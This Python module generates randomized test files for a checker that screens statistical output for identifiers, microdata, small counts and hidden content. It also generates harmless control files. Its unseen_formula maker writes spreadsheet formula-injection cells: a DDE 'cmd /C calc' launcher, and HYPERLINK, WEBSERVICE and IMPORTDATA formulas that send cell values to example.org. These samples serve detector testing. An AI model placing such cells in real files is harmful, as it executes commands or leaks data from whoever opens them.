"""Files by kind, made anew for every seed: what must be caught, and what is harmless.

Every maker takes a random generator and gives a file; makers of what must be caught say by which rule. Names of columns, sizes, separators,
encodings, languages, orders and places vary with the seed, so that a seed nobody looked at is a test of its own.
"""

from __future__ import annotations

import io
import json
import random
import zlib
from collections.abc import Callable, Sequence

import pandas as pd
from corpus import AGES, GEMEENTEN, OPLEIDING, book, content, hexkey, level, pc6, person, png, rin, table
from corpus_records import dicts, fixed, quoted
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image

from jupyter_cbs.domain.files import FileContent

Rng = random.Random
Caught = Callable[[Rng], tuple[FileContent, str]]
Harmless = Callable[[Rng], FileContent]
Grid = list[list[object]]

NAMES = ["geslacht", "leeftijd", "gemeente", "opleiding", "inkomen", "v1", "v2", "x", "groep", "score", "sector", "wave", "y", "sekse", "lft", "code"]
MARKS = [",", ";", "\t", "|"]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "cp1252"]


def _csv(rng: Rng, rows: Sequence[Sequence[object]], name: str = "tabel") -> FileContent:
    mark = rng.choice(MARKS)
    return content(f"{name}.csv", table(rows, mark, rng.choice(["\n", "\r\n"])), rng.choice(ENCODINGS))


def _xlsx(rows: Sequence[Sequence[object]], change: Callable[[Workbook], None] | None = None, name: str = "boek") -> FileContent:
    return content(f"{name}.xlsx", book({"blad": rows}, change))


def _html(rows: Sequence[Sequence[object]], extra: str = "") -> FileContent:
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    return content("pagina.html", f"<!doctype html><html><body><h1>Uitkomsten</h1><table>{body}</table>{extra}</body></html>")


def _people(rng: Rng, least: int = 20) -> Grid:
    rows = [person(rng) for _ in range(rng.randrange(least, 150))]
    order = rng.sample(range(5), rng.randrange(4, 6))
    return [[row[k] for k in order] for row in rows]


def _named(rng: Rng, rows: Grid) -> Grid:
    return [list(rng.sample(NAMES, len(rows[0]))), *rows] if rng.random() < 0.8 else rows


def _counts(rng: Rng) -> Grid:
    what = rng.choice([AGES, GEMEENTEN, OPLEIDING, [str(year) for year in range(2012, 2023)]])
    return [
        [rng.choice(["groep", "leeftijd", "gemeente"]), rng.choice(["n", "aantal", "Aantal personen", "count"])],
        *([w, level(rng)] for w in what),
    ]


def _cross(rng: Rng) -> Grid:
    columns = rng.choice([["man", "vrouw"], ["laag", "midden", "hoog"], ["2019", "2020", "2021"]])
    rows: Grid = [[rng.choice(["Aantal", "Aantal personen", "n"]), *columns, "totaal"]]
    for label in rng.choice([AGES, GEMEENTEN, OPLEIDING]):
        values = [level(rng) for _ in columns]
        rows.append([label, *values, sum(values)])
    return rows


# ------------------------------------------------------------------------------------------------ keys


def key_by_name(rng: Rng) -> tuple[FileContent, str]:
    name = rng.choice(
        ["RINPERSOON", "rinpersoons", "BEID", "HUISHOUDNR", "WPOBRIN_crypt", "RINOBJECTNUMMER", "IKVID", "SLBAANID", "KVKNUMMER", "bsn"]
    )
    rows: Grid = [["groep", "n", name], *([f"g{i}", level(rng), rng.randrange(1, 90)] for i in range(rng.randrange(2, 20)))]
    order = rng.sample(range(3), 3)
    rows = [[row[k] for k in order] for row in rows]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)]), "identifier"


def key_by_value(rng: Rng) -> tuple[FileContent, str]:
    make = rng.choice([rin, hexkey, pc6])
    rows: Grid = [[rng.choice(["id", "wie", "x1", "sleutel", "k"]), "waarde"], *([make(rng), level(rng)] for _ in range(rng.randrange(6, 60)))]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)]), "identifier"


def key_in_text(rng: Rng) -> tuple[FileContent, str]:
    key = f"00{rng.randrange(10**6, 10**7)}"
    text = rng.choice([f"De persoon {key} is weggelaten.\n", f"# record {key}\n\nZie bijlage.\n", f"Let op ({key}): uitschieter\n" * 3])
    before = "Toelichting bij de tabellen.\n" * rng.randrange(30)
    kind = rng.choice(["txt", "md", "log", "tex", "rtf", "svg", "pdf", "html"])
    if kind == "rtf":
        return content("lees.rtf", r"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 " + (before + text).replace("\n", r"\par ") + "}"), "identifier"
    if kind == "svg":
        return content("fig.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="2">{text}</text></svg>'), "identifier"
    if kind == "html":
        return content("a.html", f"<!doctype html><html><body><p>{before}</p><!-- {text} --></body></html>"), "identifier"
    if kind == "pdf":
        shown = zlib.compress(("BT /F1 12 Tf (" + text.replace("(", r"\(").replace(")", r"\)") + ") Tj ET").encode())
        head = b"%PDF-1.5\n1 0 obj\n<< /Length " + str(len(shown)).encode() + b" /Filter /FlateDecode >>\nstream\n"
        return content("a.pdf", head + shown + b"\nendstream\nendobj\ntrailer\n%%EOF\n"), "identifier"
    return content(f"lees.{kind}", before + text), "identifier"


def key_in_script(rng: Rng) -> tuple[FileContent, str]:
    value = rng.choice([f"{rng.randrange(10**8, 10**9 - 1000):09d}", f"0{rng.randrange(10**7, 10**8)}", str(rng.randrange(1000, 10**6) * 10 + 7)])
    name = rng.choice(["RINPERSOON", "rinpersoon", "RinPersoon"])
    kind, line = rng.choice(
        [
            ("py", f"df = df[df['{name}'] != '{value}']"),
            ("py", f"df = df[df.{name} == {value.lstrip('0')}]"),
            ("py", f"df = df[~df['{name}'].isin(['{value}', '{value[::-1]}'])]"),
            ("py", f"weg = df.query('{name} == \"{value}\"')"),
            ("r", f'd <- d[d${name} == "{value}", ]'),
            ("r", f"d <- subset(d, {name} %in% c({value.lstrip('0')}, 12345))"),
            ("r", f'd <- dplyr::filter(d, {name} != "{value}")'),
            ("do", f'drop if {name.lower()} == "{value}"'),
            ("do", f'keep if inlist({name.lower()}, "{value}", "1")'),
            ("sps", f"SELECT IF ({name} = '{value}')."),
            ("sql", f"select * from t where {name} in ('{value}')"),
        ]
    )
    filler = {"py": "x = 1\n", "r": "x <- 1\n", "do": "gen x = 1\n", "sps": "COMPUTE x = 1.\n", "sql": "select 1;\n"}[kind] * rng.randrange(20)
    return content(f"script.{kind}", filler + line + "\n" + filler), "script_literal"


# ------------------------------------------------------------------------------------------------ microdata


def records_in_table(rng: Rng) -> tuple[FileContent, str]:
    rows = _named(rng, _people(rng))
    if rng.random() < 0.3:
        rows = [["Uitdraai van de analyse"], [], *rows]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)]), "microdata"


def records_in_text(rng: Rng) -> tuple[FileContent, str]:
    rows = [[str(cell).replace(" ", "_") for cell in row] for row in _people(rng)]
    before = "Hieronder de uitkomsten.\n\n" * rng.randrange(2)
    made = rng.choice(
        [
            table(rows, rng.choice([":", ";", "|", "\t", "^", "~", ", ", "  "])),
            fixed(rows, rng.randrange(1, 5)),
            "".join(json.dumps(row) + "\n" for row in rows),
            "".join(f"{tuple(row)}\n" for row in rows),
            "".join("| " + " | ".join(row) + " |\n" for row in rows),
        ]
    )
    return content(f"uitvoer.{rng.choice(['txt', 'md', 'log', 'text'])}", before + made), "microdata"


def records_in_script(rng: Rng) -> tuple[FileContent, str]:
    rows = [person(rng) for _ in range(rng.randrange(20, 80))]
    columns = list(zip(*rows, strict=True))
    names = rng.sample(NAMES[:-3], 5)
    kind, text = rng.choice(
        [
            ("py", f"rows = {[tuple(row) for row in rows]}\n"),
            ("py", f"df = pd.DataFrame({ {n: list(c) for n, c in zip(names, columns, strict=True)} })\n"),
            ("py", f"rows = {dicts(rows)}\n"),
            ("py", 'data = """\n' + table(rows, rng.choice([";", ":", ","])) + '"""\n'),
            ("r", "d <- data.frame(" + ", ".join(f"{n} = c({quoted(c)})" for n, c in zip(names, columns, strict=True)) + ")\n"),
            ("r", "d <- rbind(" + ", ".join(f"c({quoted(row)})" for row in rows) + ")\n"),
            ("sql", "INSERT INTO t VALUES\n" + ",\n".join("(" + ", ".join(repr(c) for c in row) + ")" for row in rows) + ";\n"),
            ("json", json.dumps({"data": dicts(rows)}, indent=rng.choice([None, 2]))),
            ("json", json.dumps({n: list(c) for n, c in zip(names, columns, strict=True)})),
        ]
    )
    return content(f"a.{kind}", text), "microdata"


def records_in_words(rng: Rng) -> tuple[FileContent, str]:
    """One sentence, or one label of a table, for each person."""
    rows = [person(rng) for _ in range(rng.randrange(40, 120))]
    if rng.random() < 0.4:
        mark = rng.choice("_/|:~")
        labelled: Grid = [["groep", "n"], *([mark.join(map(str, row)).replace(";", ""), level(rng)] for row in rows)]
        return rng.choice([content("t.csv", table(labelled, ";")), _xlsx(labelled)]), "microdata"
    form = rng.choice(
        [
            "Een {0} van {1} uit {2} met opleiding {3} verdient {4} euro.",
            "Respondent {5}: {0}, {1} jaar, {3} opgeleid, inkomen {4}.",
            "- In {2} woont een {0} van {1} jaar; het inkomen is {4} en de opleiding {3}.",
        ]
    )
    said = [form.format({"M": "man", "V": "vrouw"}[str(row[0])], *(str(x).replace(" ", "") for x in row[1:]), i) for i, row in enumerate(rows)]
    kind = rng.choice(["txt", "md", "log", "tex", "py"])
    text = (" " if rng.random() < 0.3 else "\n").join(said)
    return content(f"verslag.{kind}", f'"""\n{text}\n"""\n' if kind == "py" else text + "\n"), "microdata"


def printed_records(rng: Rng) -> tuple[FileContent, str]:
    """What a notebook or console prints of a data frame."""
    rows = [[str(cell).replace(" ", "_") for cell in person(rng)] for _ in range(rng.randrange(20, 60))]
    names = ["geslacht", "leeftijd", "gemeente", "opleiding", "inkomen"]
    grid = [["", *names], *([str(i + (rng.random() < 0)), *row] for i, row in enumerate(rows))]
    widths = [max(len(row[k]) for row in grid) + 2 for k in range(6)]
    printed = "\n".join("".join(cell.rjust(width) for cell, width in zip(row, widths, strict=True)) for row in grid)
    text = rng.choice([f"Out[4]:\n{printed}\n\n[{len(rows)} rows x 5 columns]\n", f"> print(d)\n{printed}\n", printed + "\n"])
    if rng.random() < 0.3:
        return content("a.py", "".join(f"# {line}\n" for line in text.splitlines()) + "x = 1\n"), "microdata"
    return content(f"uitvoer.{rng.choice(['txt', 'log'])}", text), "microdata"


# ------------------------------------------------------------------------------------------------ cells


def small_count(rng: Rng) -> tuple[FileContent, str]:
    rows = rng.choice([_counts, _cross])(rng)
    rows[rng.randrange(1, len(rows))][1] = rng.randrange(1, 10)
    if rng.random() < 0.3:
        rows = [["Tabel 2. Uitkomsten"], [], *rows]
    files = [
        _csv(rng, rows),
        _xlsx(rows),
        _html(rows),
        content("t.txt", fixed([[str(c).replace(" ", "_") for c in row] for row in rows if len(row) > 1], 3)),
    ]
    return rng.choice(files), "min_frequency"


def _skewed(rng: Rng, size: int) -> list[int]:
    """Numbers of events of some people: most have few, hardly any have many."""
    return [min(int(rng.expovariate(0.25)), 60) for _ in range(size)]


def _sample(rng: Rng, size: int) -> pd.DataFrame:
    """People with the variables cross tables are made of."""
    return pd.DataFrame(
        {
            "mdvis": _skewed(rng, size),
            "physlm": [rng.random() < 0.3 for _ in range(size)],
            "sekse": rng.choices("MV", k=size),
            "opl": rng.choices([1, 2, 3, 9], k=size),
            "sector": rng.choices([11, 23, 31, 42, 44, 51, 62], k=size),
            "gem": rng.choices(GEMEENTEN[:4], k=size),
            "jaar": rng.choices(range(2015, 2021), k=size),
        }
    )


def _written(rng: Rng, frame: pd.DataFrame | pd.Series[int], name: str = "uitkomst") -> FileContent:
    """A frame as pandas writes it."""
    if rng.random() < 0.4:
        buffer = io.BytesIO()
        frame.to_excel(buffer)
        return content(f"{name}.xlsx", buffer.getvalue())
    return content(f"{name}.csv", frame.to_csv(sep=rng.choice(MARKS)))


def small_count_unnamed(rng: Rng) -> tuple[FileContent, str]:
    """Cross tables and lists of values as pandas writes them, some of whose counts are small: no word says what the numbers are."""
    d = _sample(rng, rng.randrange(900, 3000))
    one = rng.choice(["physlm", "sekse", "opl", "gem", "sector"])
    other = rng.choice([name for name in ("sekse", "opl", "jaar", "sector") if name != one])
    margins = rng.random() < 0.4
    kind = rng.randrange(8)
    if kind == 0:
        frame: pd.DataFrame | pd.Series[int] = pd.crosstab(d[one], d.mdvis, margins=margins)
    elif kind == 1:
        frame = pd.crosstab(d.mdvis, d[one], margins=margins)
    elif kind == 2:
        frame = pd.crosstab(d.mdvis, [d[one], d[other]], margins=margins)
    elif kind == 3:
        frame = pd.crosstab([d[one], d[other]], d.mdvis)
    elif kind == 4:
        frame = pd.crosstab(d[one], [d[other], d.mdvis])
    elif kind == 5:
        frame = d.mdvis.value_counts(sort=rng.random() < 0.7)
    elif kind == 6:
        frame = d.groupby(["mdvis", one][: rng.randrange(1, 3)]).size()
    else:
        frame = d.groupby([one, "mdvis"]).size().unstack()
    return _written(rng, frame), "min_frequency"


def one_category(rng: Rng) -> tuple[FileContent, str]:
    big = rng.randrange(1000, 5000)
    rows: Grid = [["Aantal", "ja", "nee"], ["wijk A", big, rng.randrange(10, big // 10)], ["wijk B", level(rng), level(rng)]]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)]), "group_disclosure"


def extremes(rng: Rng) -> tuple[FileContent, str]:
    rows: Grid = [["groep", "n", "gemiddelde", rng.choice(["min", "max", "minimum", "Maximum"])]]
    rows += [[a, level(rng), round(rng.uniform(1e3, 1e4), 1), rng.randrange(1, 10**6)] for a in AGES]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)]), "min_max"


def residual_extremes(rng: Rng) -> tuple[FileContent, str]:
    text = "Call:\nlm(formula = y ~ x, data = d)\n\nResiduals:\n    Min      1Q  Median      3Q     Max \n"
    text += "".join(f"{rng.gauss(0, 9):8.3f}" for _ in range(5)) + "\n\nCoefficients:\n            Estimate Std. Error t value Pr(>|t|)\n"
    return content(rng.choice(["model.txt", "model.log"]), text + "(Intercept)   1.2000     0.0300   40.00   <2e-16 ***\n"), "unit_values"


# ------------------------------------------------------------------------------------------------ what is not seen


def unseen_in_workbook(rng: Rng) -> tuple[FileContent, str]:
    rows: Grid = [["groep", "n"], *([a, level(rng)] for a in AGES)]

    def hidden_sheet(book_: Workbook) -> None:
        other = book_.create_sheet("ruw")
        other.append(["a", 1])
        other.sheet_state = rng.choice(["hidden", "veryHidden"])

    def hidden_row(book_: Workbook) -> None:
        book_["blad"].row_dimensions[rng.randrange(2, 6)].hidden = True

    def hidden_column(book_: Workbook) -> None:
        book_["blad"].column_dimensions["B"].hidden = True

    def low_row(book_: Workbook) -> None:
        book_["blad"].row_dimensions[3].height = 0.01

    def white(book_: Workbook) -> None:
        book_["blad"]["F9"] = "uitschieter weggelaten"
        book_["blad"]["F9"].font = Font(color="FFFFFF")

    def no_format(book_: Workbook) -> None:
        book_["blad"]["B3"].number_format = ";;;"

    def comment(book_: Workbook) -> None:
        book_["blad"]["B3"].comment = Comment("controleren", "jan")

    def validation(book_: Workbook) -> None:
        choice = DataValidation(type="list", formula1='"een,twee,drie"')
        choice.add("A2")
        book_["blad"].add_data_validation(choice)

    def formula(book_: Workbook) -> None:
        book_["blad"]["C2"] = "=B2*2"

    return _xlsx(
        rows, rng.choice([hidden_sheet, hidden_row, hidden_column, low_row, white, no_format, comment, validation, formula])
    ), "hidden_content"


def unseen_formula(rng: Rng) -> tuple[FileContent, str]:
    """Tables with a cell that acts where they are opened."""
    acting = rng.choice(
        [
            f"{rng.choice('=+-@')}{rng.choice(['cmd', 'MSEXCEL', 'powershell'])}|' /C calc'!A{rng.randrange(9)}",
            f'=HYPERLINK("http://example.org/?x="&A{rng.randrange(2, 9)},"{rng.choice(["meer", "klik"])}")',
            f'=WEBSERVICE("http://example.org/"&B{rng.randrange(2, 9)})',
            '=IMPORTDATA(CONCAT("http://example.org/",A1))',
        ]
    )
    rows = _counts(rng)
    if rng.random() < 0.5:
        rows[rng.randrange(1, len(rows))][0] = acting
        return _csv(rng, [[f'"{str(cell).replace(chr(34), chr(34) * 2)}"' for cell in row] for row in rows]), "hidden_content"

    def write(workbook: Workbook) -> None:
        workbook["blad"].cell(rng.randrange(2, 9), rng.randrange(1, 5), "=" + acting[1:])

    return _xlsx(rows, write), "hidden_content"


def unseen_in_picture(rng: Rng) -> tuple[FileContent, str]:
    buffer = io.BytesIO()
    kind = rng.randrange(4)
    if kind == 0:
        return content("fig.png", png(tail=rng.randbytes(rng.randrange(1, 300)))), "hidden_content"
    if kind == 1:
        picture = Image.new("RGBA", (40, 40))
        picture.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256), 0) for _ in range(1600)])
        picture.save(buffer, "PNG")
        return content("fig.png", buffer.getvalue()), "hidden_content"
    if kind == 2:
        frames = [Image.new("RGB", (20, 20), tuple(rng.randbytes(3))) for _ in range(3)]
        frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
        return content("fig.gif", buffer.getvalue()), "hidden_content"
    picture = Image.new("RGB", (20, 20))
    exif = picture.getexif()
    exif[0x010E] = "gemaakt door Jan"
    picture.save(buffer, "JPEG", exif=exif)
    return content("fig.jpg", buffer.getvalue()), "metadata"


def unseen_in_page(rng: Rng) -> tuple[FileContent, str]:
    extra = rng.choice(
        [
            "<div style='display:none'>weggelaten rijen</div>",
            "<p hidden>weggelaten</p>",
            "<script>var data = [1, 2, 3]</script>",
            "<!-- weggelaten -->",
            "<img src='data:image/png;base64,iVBORw0KGgo'>",
            "<template><b>x</b></template>",
        ]
    )
    return _html(_counts(rng), extra), "hidden_content"


CAUGHT: dict[str, Caught] = {
    "identifier: by name": key_by_name,
    "identifier: by value": key_by_value,
    "identifier: in text": key_in_text,
    "identifier: in script": key_in_script,
    "microdata: table": records_in_table,
    "microdata: text": records_in_text,
    "microdata: script": records_in_script,
    "microdata: in words": records_in_words,
    "microdata: printed": printed_records,
    "small count": small_count,
    "small count: unnamed": small_count_unnamed,
    "one category": one_category,
    "minimum or maximum": extremes,
    "residuals": residual_extremes,
    "unseen: workbook": unseen_in_workbook,
    "unseen: formula": unseen_formula,
    "unseen: picture": unseen_in_picture,
    "unseen: page": unseen_in_page,
}
"""Makers of what must be caught. The first word is what it is; identifiers and microdata may never be missed."""


# ------------------------------------------------------------------------------------------------ harmless


def fine_counts(rng: Rng) -> FileContent:
    rows = rng.choice([_counts, _cross])(rng)
    if rng.random() < 0.3:
        rows = [["Tabel 1. Aantal personen"], [], *rows, [], ["Bron: eigen berekening"]]
    return rng.choice([_csv(rng, rows), _xlsx(rows), _html(rows)])


def fine_cube(rng: Rng) -> FileContent:
    parts = rng.sample([GEMEENTEN, AGES, OPLEIDING, ["M", "V"], [str(year) for year in range(2015, 2021)]], rng.randrange(2, 4))
    rows: Grid = [[""]]
    rows = [[]]
    for part in parts:
        rows = [[*row, value] for row in rows for value in part]
    return _csv(rng, [[*[f"dim{i}" for i in range(len(parts))], "n"], *([*row, level(rng)] for row in rows if rng.random() < 0.95)])


def fine_means(rng: Rng) -> FileContent:
    rows: Grid = [["groep", "n", rng.choice(["gemiddelde", "mediaan", "sd", "aandeel"])]]
    rows += [[g, level(rng), f"{rng.uniform(10, 60):.2f}".replace(".", rng.choice(".,"))] for g in rng.choice([AGES, GEMEENTEN])]
    mark = ";" if any("," in str(row[2]) for row in rows) else rng.choice(MARKS)
    return rng.choice([content("t.csv", table(rows, mark)), _xlsx(rows)])


def fine_model(rng: Rng) -> FileContent:
    terms = [rng.choice(["leeftijd", "vrouw", "inkomen", "opl", "jaar", "gem"]) + f"_{i}" for i in range(rng.randrange(5, 40))]
    kind = rng.randrange(3)
    if kind == 0:
        rows: Grid = [["term", "estimate", "std.error", "p.value"], *([t, *(round(rng.gauss(0, 1), 4) for _ in range(3))] for t in terms)]
        return _csv(rng, rows)
    if kind == 1:
        lines = [f"{t:<16}{rng.gauss(0, 1):>9.4f}{rng.random():>9.4f}{rng.gauss(0, 3):>9.3f}{rng.random():>8.3f}" for t in terms]
        head = "=" * 60 + "\n" + " " * 16 + "     coef  std err        t   P>|t|\n" + "-" * 60
        return content("model.txt", "\n".join(["OLS Regression Results".center(60), head, *lines, "=" * 60]) + "\n")
    lines = [f"{t:>14} | {rng.gauss(0, 1):>9.4f} {abs(rng.gauss(0, 1)):>9.4f} {rng.gauss(0, 3):>7.2f} {rng.random():>6.3f}" for t in terms]
    return content("stata.log", "\n".join(["-" * 60, f"{'y':>14} |      Coef.   Std. Err.      t    P>|t|", "-" * 60, *lines]) + "\n")


def fine_script(rng: Rng) -> FileContent:
    years = range(2010, 2010 + rng.randrange(3, 12))
    kind, text = rng.choice(
        [
            (
                "py",
                "import pandas as pd\n\nYEARS = "
                + repr(list(years))
                + "\n\n\ndef load(year):\n    return pd.read_parquet(f'data/{year}.parquet', columns=['RINPERSOON', 'INKOMEN'])\n\n\n"
                + "".join(
                    f"df['{c}'] = df['{c}'].fillna({rng.randrange(9)}).clip(0, {10 ** rng.randrange(3, 7)})\n"
                    for c in rng.sample(NAMES, rng.randrange(2, 9))
                )
                + "out = df.groupby(['gemeente', 'jaar']).agg(n=('RINPERSOON', 'nunique'), gem=('INKOMEN', 'mean'))\n"
                + "out[out.n >= 10].to_csv('uit.csv')\n",
            ),
            (
                "r",
                "library(dplyr)\n"
                + "".join(f"d{y} <- read_rds('G:/data/inkomen_{y}.rds')\n" for y in years)
                + "m <- feols(log(inkomen) ~ leeftijd + i(opleiding) | jaar, d, cluster = ~RINPERSOON)\n"
                + "".join(f"d$k{i} <- cut(d$x{i}, c(0, {i + 10}, {i * 20 + 40}, Inf))\n" for i in range(rng.randrange(1, 20))),
            ),
            (
                "do",
                "* analyse\nclear all\n"
                + "".join(f'merge 1:1 rinpersoon using "data_{y}.dta", keep(match) nogen\n' for y in years)
                + "recode opl (1 2 = 1 laag) (3/5 = 2 midden) (6 7 = 3 hoog), gen(opl3)\n"
                + "replace inkomen = . if inkomen >= 999999999\nregress y x i.opl3\n",
            ),
            (
                "sps",
                "GET FILE='G:\\Bevolking\\GBAPERSOON2023TABV1.sav'.\n"
                + "".join(f"RECODE v{i} (0 THRU 17=1) (18 THRU 64=2) (ELSE=3) INTO k{i}.\n" for i in range(rng.randrange(2, 15)))
                + "AGGREGATE OUTFILE=* /BREAK=gemeente /n=N(rinpersoon).\n",
            ),
            (
                "sql",
                "select gemeente, count(distinct rinpersoon) as n\nfrom persoon\nwhere jaar between 2015 and 2020 and rinpersoon is not null\n"
                + "group by gemeente\nhaving count(distinct rinpersoon) >= 10;\n",
            ),
        ]
    )
    return content(f"script.{kind}", text)


def fine_text(rng: Rng) -> FileContent:
    sentences = [
        "De onderzoekspopulatie bestaat uit alle personen van 18 tot 65 jaar op 1 januari.",
        "Personen zijn gekoppeld op RINPERSOON en RINPERSOONS.",
        "Huishoudens zonder inkomen zijn buiten beschouwing gelaten (2,1 procent).",
        "Zie tabel 3 en figuur 2; bedragen zijn in euro's van 2020.",
        "Cells with fewer than 10 observations are suppressed.",
        "De uitkomsten zijn gewogen; de ongewogen aantallen staan in kolom n.",
        "Contact: 050-1234567, e.vries@example.nl, Paterswoldseweg 812, 9728 BM Groningen.",
    ]
    lines = [rng.choice(sentences) for _ in range(rng.randrange(3, 60))]
    kind = rng.choice(["txt", "md", "tex", "html", "rtf"])
    if kind == "html":
        return content("a.html", "<!doctype html><html><body>" + "".join(f"<p>{line}</p>\n" for line in lines) + "</body></html>")
    if kind == "rtf":
        return content("a.rtf", r"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 " + r"\par ".join(lines) + "}")
    return content(f"lees.{kind}", "\n".join(lines) + "\n")


def fine_log(rng: Rng) -> FileContent:
    steps = ["gelezen", "gekoppeld", "gefilterd", "weggeschreven"]
    lines = [
        f"2026-0{rng.randrange(1, 9)}-1{i % 9} 1{i % 9}:{i % 60:02d}:00 INFO {rng.choice(steps)}: {rng.randrange(10**6)} rijen" for i in range(50)
    ]
    lines.sort()
    return content("run.log", "\n".join(lines) + "\n")


def fine_codebook(rng: Rng) -> FileContent:
    rows: Grid = [["variabele", "omschrijving", "type"]]
    rows += [
        [f"{rng.choice(NAMES)}_{i}", f"{rng.choice(['Aard', 'Soort', 'Hoogte'])} van {rng.choice(NAMES)} {i}", "A1"]
        for i in range(rng.randrange(5, 80))
    ]
    return rng.choice([_csv(rng, rows, "codeboek"), _xlsx(rows), content("codes.json", json.dumps({str(r[0]): r[1] for r in rows}))])


def fine_picture(rng: Rng) -> FileContent:
    buffer = io.BytesIO()
    picture = Image.new(rng.choice(["RGB", "RGBA", "L", "P"]), (60, 40), rng.randrange(200))
    kind = rng.choice(["PNG", "GIF"] if picture.mode != "RGB" else ["PNG", "GIF", "JPEG"])
    picture.save(buffer, kind)
    return content(f"fig.{ {'JPEG': 'jpg'}.get(kind, kind.lower()) }", buffer.getvalue())


def fine_series(rng: Rng) -> FileContent:
    rows: Grid = [["maand", rng.choice(["n", "aantal", "index"])]]
    rows += [[f"{year}-{month:02d}", level(rng)] for year in range(2015, 2015 + rng.randrange(2, 8)) for month in range(1, 13)]
    return rng.choice([_csv(rng, rows), _xlsx(rows)])


def fine_whole(rng: Rng) -> FileContent:
    """Whole numbers between categories that count nobody: rounded means and medians, shares of a hundred, ranks, codes; and counts that are large."""
    size = 2000
    d = _sample(rng, size).assign(inkomen=[rng.lognormvariate(10.2, 0.5) for _ in range(size)], lft=[rng.randrange(18, 90) for _ in range(size)])
    one, other = rng.sample(["sekse", "opl", "gem", "jaar"], 2)
    kind = rng.randrange(7)
    if kind == 0:
        frame = d.pivot_table(index=one, columns=other, values="inkomen", aggfunc=rng.choice(["mean", "median"])).round().astype(int)
    elif kind == 1:
        frame = d.pivot_table(index=one, columns=other, values="lft", aggfunc="median").round().astype(int)
    elif kind == 2:
        frame = d.pivot_table(index=one, columns=other, values="mdvis", aggfunc="median").round().astype(int)
    elif kind == 3:
        frame = (pd.crosstab(d[one], d[other], normalize="index") * 100).round().astype(int)
    elif kind == 4:
        frame = pd.crosstab(d[one], d[other], margins=rng.random() < 0.5)
    elif kind == 5:
        frame = d.pivot_table(index="sector", columns="jaar", values="inkomen").rank().astype(int)
    else:
        frame = (
            d.pivot_table(index=one, columns="sector", values="mdvis", aggfunc=[rng.choice(["mean", "std", "median"]), "count"]).round().astype(int)
        )
    return _written(rng, frame)


def fine_sentences(rng: Rng) -> FileContent:
    """Results in sentences and in labels: of groups, iterations, tables, files."""
    kind = rng.randrange(6)
    if kind == 0:
        cities = [f"{a}{b}" for a in ("Noord", "Oost", "Zuid", "West") for b in ("dam", "dorp", "broek", "wijk", "veen", "horst")]
        lines = [f"In {city} is het aandeel {rng.uniform(10, 60):.1f} procent van {level(rng)} personen." for city in cities]
    elif kind == 1:
        lines = [f"Iteration {k}: log likelihood = {-9000 + 400 / (k + 1):.4f} (not concave), step {rng.random():.3f}" for k in range(30)]
    elif kind == 2:
        lines = [f"epoch {k} van 60: loss {rng.random():.4f} val {rng.random():.4f} op train en test" for k in range(60)]
    elif kind == 3:
        lines = [f"In {year} lag het gemiddelde van {sex} op {rng.uniform(20, 40):.1f} (n = {level(rng)})." for year in range(2008, 2021)
                 for sex in ("mannen", "vrouwen")]  # fmt: skip
    elif kind == 4:
        lines = [f"Het bestand {name}_{k}.parquet is gelezen: {rng.randrange(10**4, 10**6)} rijen, {rng.randrange(5, 90)} kolommen." for k in range(9)
                 for name in ("inkomen", "banen", "gba")]  # fmt: skip
    else:
        rows: Grid = [["term", "n"]]
        rows += [[f"{a}_{b}_{c}", level(rng)] for a in "MV" for b in ("18-29", "30-44", "45-64", "65+") for c in OPLEIDING]
        return rng.choice([_csv(rng, rows), _xlsx(rows)])
    return content(rng.choice(["verslag.txt", "lees.md", "run.log"]), "\n".join(lines) + "\n")


def fine_signs(rng: Rng) -> FileContent:
    """Tables whose labels and cells begin as formulas do: bullets, plus and minus, what is withheld, estimates below zero."""
    label = ["- man", "+ 65 jaar", "- w.o. overig (incl. onbekend)", "+/- 5 km", "=", "-", "-2 log(L)", "@werk", "- <10 | >=10", "+31 6", "-1"]
    rows: Grid = [["kenmerk", "n", "verschil"]]
    rows += [
        [text, level(rng), rng.choice(["-", "+", f"-{rng.random():.2f}***", f"+{rng.randrange(9)}", f"(-{rng.random():.2f})"])] for text in label
    ]
    return rng.choice([_csv(rng, rows), _xlsx([[f"'{c}" if c == "=" else c for c in row] for row in rows])])


HARMLESS: dict[str, Harmless] = {
    "counts": fine_counts,
    "cube": fine_cube,
    "means with n": fine_means,
    "models": fine_model,
    "scripts": fine_script,
    "texts": fine_text,
    "logs": fine_log,
    "code books": fine_codebook,
    "pictures": fine_picture,
    "time series": fine_series,
    "whole numbers": fine_whole,
    "signs": fine_signs,
    "sentences": fine_sentences,
}
"""Makers of harmless files."""
